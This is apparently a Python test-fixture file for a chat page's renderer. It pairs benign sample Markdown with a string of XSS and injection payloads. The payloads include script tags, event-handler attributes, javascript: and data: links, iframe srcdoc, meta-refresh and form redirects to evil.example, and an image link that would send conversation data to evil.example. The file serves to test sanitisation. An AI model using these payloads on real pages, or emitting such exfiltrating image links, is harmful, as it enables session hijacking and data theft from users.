"""Texts that a chat page is looked at with: Markdown as models write it, and markup that attacks the page."""

MARKDOWN = """\
# Streaming answers

A *streamed* answer arrives **token by token**, with ***no*** wait for its end. ~~Polling~~ is over.

## What travels

1. Bedrock frames a token.
2. The function decodes it:
   - the frame's checksum is verified,
   - the text becomes a `data:` line.
3. The browser shows it.

> "Nothing is collected on the way."
>
> A quotation of two paragraphs.

### In code

```python
def answer(question: str) -> Iterator[str]:
    # <b> and & are text here, not markup
    for token in model.stream(question):
        yield f"data: {token}\\n\\n"
```

| stage    | time    | share |
|:---------|--------:|:-----:|
| Bedrock  |  310 ms |  92 % |
| function |   21 ms |   6 % |
| network  |    7 ms |   2 % |

- [x] encode
- [ ] decode, as in `a < b && c > d`

Read [the guide](https://docs.aws.amazon.com/lambda/latest/dg/configuration-response-streaming.html "Lambda"), or
<https://example.com/a_b_c?x=1&y=2>.

---

It works in any script: čeština, 日本語, Ελληνικά, العربية. 🙂
"""

HOSTILE = """\
<script>document.title = "hacked"</script>
<img src=x onerror="document.title='hacked'">
<svg onload="document.title='hacked'"><a xlink:href="javascript:document.title='hacked'">svg</a></svg>
<iframe src="javascript:parent.document.title='hacked'"></iframe>
<iframe srcdoc="<script>parent.document.title='hacked'</script>"></iframe>
<style>body { display: none }</style><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=//evil.example">
<form action="https://evil.example/"><input name="secret" autofocus onfocus="document.title='hacked'"></form>

[a link](javascript:document.title='hacked')
[another](  JaVaScRiPt&colon;document.title='hacked')
[a third](java\tscript:document.title='hacked')
[data](data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0naGFja2VkJzwvc2NyaXB0Pg==)
[quotes](https://example.com/"onmouseover="document.title='hacked')
![an image that would call home](https://evil.example/pixel.png?conversation=secret)
![x](x"onerror="document.title='hacked')
<javascript:document.title='hacked'>

| a table | <script>document.title='hacked'</script> |
|---|---|
| `</td><script>document.title='hacked'</script>` | <b onclick="document.title='hacked'">bold</b> |

**bold that *never ends, `code that [never ends](
&lt;script&gt;document.title='hacked'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;
</textarea></title></div></main></body></html><!-- --><![CDATA[ ]]>
\u202eright to left\u202c \u2028 \u0000 {{constructor.constructor('document.title=1')()}} ${document.title}

```html"><script>document.title='hacked'</script>
<script>document.title = "hacked"</script>
"""
